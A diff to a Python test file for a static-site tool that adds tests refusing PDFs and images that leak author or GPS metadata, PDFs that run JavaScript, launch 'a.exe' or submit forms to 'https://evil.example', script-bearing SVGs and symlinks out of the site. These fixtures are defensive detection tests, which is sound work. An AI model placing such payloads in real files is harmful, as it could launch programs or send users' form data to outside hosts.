@@ -2,10 +2,14 @@
 
 from __future__ import annotations
 
+import io
 import os
 from pathlib import Path
+from typing import Any
 
+import pikepdf
 import pytest
+from PIL import Image, PngImagePlugin
 
 from lantern.files import static
 from tests.making import write
@@ -49,17 +53,17 @@ def test_hidden_names_that_a_site_is_asked_for_are_published(tmp_path: Path) -> 
 
 def test_what_programs_and_systems_left_is_told_by_name_and_not_published(tmp_path: Path) -> None:
     left = ["~$flyer.docx", "Thumbs.db", "desktop.ini", "__MACOSX/a", "__MACOSX/b", "flyer.pdf~", "art/.DS_Store", "art/x.bak"]
-    write(tmp_path, dict.fromkeys([*left, "flyer.pdf", "art/x.svg"], "x"))
+    write(tmp_path, dict.fromkeys([*left, "flyer.pdf", "art/x.txt"], "x"))
     found, told = paths(tmp_path)
-    assert found == ["art/x.svg", "flyer.pdf"]
+    assert found == ["art/x.txt", "flyer.pdf"]
     wanted = {path if not path.startswith("__MACOSX") else "__MACOSX" for path in left}
     assert told == [(f"static/{path}", "leftover") for path in sorted(wanted)]
 
 
 def test_the_sites_own_file_wins_over_lanterns(tmp_path: Path) -> None:
-    write(tmp_path, {"engine/icon.svg": "old", "engine/other.svg": "o", "own/icon.svg": "new"})
+    write(tmp_path, {"engine/icon.txt": "old", "engine/other.txt": "o", "own/icon.txt": "new"})
     files, _ = static.read([(tmp_path / "engine", "engine"), (tmp_path / "own", "static"), (tmp_path / "none", "none")])
-    assert {file.path: file.data for file in files} == {"icon.svg": b"new", "other.svg": b"o"}
+    assert {file.path: file.data for file in files} == {"icon.txt": b"new", "other.txt": b"o"}
 
 
 @pytest.mark.parametrize("target", ["../secret.txt", "../folder", "nowhere", "ok.txt"])
@@ -73,3 +77,158 @@ def test_a_link_is_told_and_not_followed(tmp_path: Path, target: str) -> None:
 def test_what_is_no_file_is_told_and_not_opened(tmp_path: Path) -> None:
     os.mkfifo(tmp_path / "pipe")
     assert paths(tmp_path) == ([], [("static/pipe", "not-a-file")])
+
+
+# --- what a file would run, or tell of people ------------------------------------------------------------------------
+
+
+def pixels(kind: str, **named: Any) -> bytes:
+    held = io.BytesIO()
+    Image.new("RGB", (4, 4), "white").save(held, kind, **named)
+    return held.getvalue()
+
+
+def exif(*tags: tuple[int, object], place: bool = False) -> Image.Exif:
+    found = Image.Exif()
+    for tag, value in tags:
+        found[tag] = value
+    if place:
+        found.get_ifd(0x8825)[2] = (42.0, 21.0, 30.0)
+    return found
+
+
+def words(key: str, value: str) -> PngImagePlugin.PngInfo:
+    found = PngImagePlugin.PngInfo()
+    found.add_text(key, value)
+    return found
+
+
+def document(**info: str) -> pikepdf.Pdf:
+    made = pikepdf.new()
+    made.add_blank_page()
+    for key, value in info.items():
+        made.docinfo[f"/{key}"] = value
+    return made
+
+
+def saved(made: pikepdf.Pdf, **named: Any) -> bytes:
+    held = io.BytesIO()
+    made.save(held, **named)
+    return held.getvalue()
+
+
+def acting(**action: Any) -> bytes:
+    made = document()
+    made.Root.OpenAction = made.make_indirect(pikepdf.Dictionary({f"/{key}": value for key, value in action.items()}))
+    return saved(made)
+
+
+def annotated() -> bytes:
+    made = document()
+    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("a.exe"))
+    made.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, A=act)])
+    return saved(made)
+
+
+def attached() -> bytes:
+    made = document()
+    made.attachments["a.txt"] = b"x"
+    return saved(made)
+
+
+def described() -> bytes:
+    made = document()
+    with made.open_metadata(set_pikepdf_as_editor=False) as told:
+        told["dc:creator"] = ["Ana"]
+    del made.trailer["/Info"]
+    return saved(made)
+
+
+TELLING = {
+    "author.jpg": pixels("JPEG", exif=exif((0x013B, "Ana"))),
+    "place.jpg": pixels("JPEG", exif=exif(place=True)),
+    "camera.jpg": pixels("JPEG", exif=exif((0x010F, "Lens & Co"), (0x0110, "X1"))),
+    "program.jpeg": pixels("JPEG", exif=exif((0x0131, "Draw 2 (Ana's computer)"))),
+    "comment.jpg": pixels("JPEG", comment=b"by Ana"),
+    "xmp.jpg": pixels("JPEG", xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Ana</x:xmpmeta>"),
+    "author.png": pixels("PNG", pnginfo=words("Author", "Ana")),
+    "program.png": pixels("PNG", pnginfo=words("Software", "Draw 2")),
+    "place.png": pixels("PNG", exif=exif((0x0112, 6), place=True)),
+    "place.webp": pixels("WEBP", exif=exif(place=True)),
+    "xmp.webp": pixels("WEBP", xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Ana</x:xmpmeta>"),
+    "wrong-ending.txt": pixels("JPEG", exif=exif((0x013B, "Ana"))),
+    "author.pdf": saved(document(Author="Ana")),
+    "program.pdf": saved(document(Creator="Write 3", Producer="Print 4")),
+    "xmp.pdf": described(),
+}
+RUNNING = {
+    "javascript.pdf": acting(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
+    "launch.pdf": acting(S=pikepdf.Name.Launch, F=pikepdf.String("a.exe")),
+    "send.pdf": acting(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example")),
+    "annotation.pdf": annotated(),
+    "attachment.pdf": attached(),
+}
+SOUND = {
+    "plain.jpg": pixels("JPEG", exif=exif((0x0112, 6)), dpi=(300, 300)),
+    "plain.png": pixels("PNG", dpi=(300, 300)),
+    "plain.webp": pixels("WEBP"),
+    "plain.gif": pixels("GIF"),
+    "plain.pdf": saved(document(Title="A door")),
+    "own.pdf": saved(document()),
+    "no-picture.png": b"x",
+}
+
+
+@pytest.mark.parametrize("name", TELLING)
+def test_a_file_that_tells_of_its_maker_is_refused(tmp_path: Path, name: str) -> None:
+    write(tmp_path, {name: TELLING[name]})
+    _, problems = static.read([(tmp_path, "static")])
+    assert [(told.path, told.rule, told.level) for told in problems] == [(f"static/{name}", "metadata", "error")]
+    assert "as with: " in problems[0].hint
+
+
+@pytest.mark.parametrize("name", RUNNING)
+def test_a_pdf_that_runs_something_is_refused(tmp_path: Path, name: str) -> None:
+    write(tmp_path, {name: RUNNING[name]})
+    assert paths(tmp_path)[1] == [(f"static/{name}", "pdf-runs")]
+
+
+def test_a_pdf_that_nobody_can_look_into_is_refused(tmp_path: Path) -> None:
+    locked = saved(document(Author="Ana"), encryption=pikepdf.Encryption(user="u", owner="o"))
+    write(tmp_path, {"locked.pdf": locked, "damaged.pdf": b"%PDF-1.7\nnothing"})
+    assert paths(tmp_path)[1] == [("static/damaged.pdf", "unreadable"), ("static/locked.pdf", "unreadable")]
+
+
+@pytest.mark.parametrize("name", SOUND)
+def test_plain_pictures_and_pdfs_go_out_as_they_are(tmp_path: Path, name: str) -> None:
+    write(tmp_path, {name: SOUND[name]})
+    assert paths(tmp_path) == ([name], [])
+
+
+def test_the_advice_on_pdfs_helps(tmp_path: Path) -> None:
+    """The hint names options of qpdf, which pikepdf brings as a library."""
+    write(tmp_path, {"old.pdf": saved(document(Author="Ana", Producer="Print 4"))})
+    pikepdf.Job(["qpdf", "--remove-info", "--remove-metadata", str(tmp_path / "old.pdf"), str(tmp_path / "new.pdf")]).run()
+    (tmp_path / "old.pdf").unlink()
+    assert paths(tmp_path) == (["new.pdf"], [])
+
+
+def test_a_drawing_that_runs_something_is_refused(tmp_path: Path) -> None:
+    write(
+        tmp_path,
+        {"d.svg": "<svg/>", "a.svg": "<svg><script>x()</script></svg>", "b.SVG": '<svg onload="x()"/>', "c.svgz": b"\x1f\x8b"},
+    )
+    assert paths(tmp_path)[1] == [(f"static/{name}", "unsafe-svg") for name in ("a.svg", "b.SVG", "c.svgz")]
+
+
+@pytest.mark.parametrize("target", ["../secret", "/etc"])
+def test_a_folder_that_is_a_link_out_of_the_site_is_refused(tmp_path: Path, target: str) -> None:
+    write(tmp_path, {"secret/key.txt": "s", "site/x": ""})
+    (tmp_path / "site/static").symlink_to(target, target_is_directory=True)
+    assert paths(tmp_path / "site/static") == ([], [("static", "not-a-file")])
+
+
+def test_a_folder_that_is_a_link_inside_the_site_is_read(tmp_path: Path) -> None:
+    write(tmp_path, {"assets/a.txt": "a"})
+    (tmp_path / "static").symlink_to("assets", target_is_directory=True)
+    assert paths(tmp_path / "static") == (["a.txt"], [])
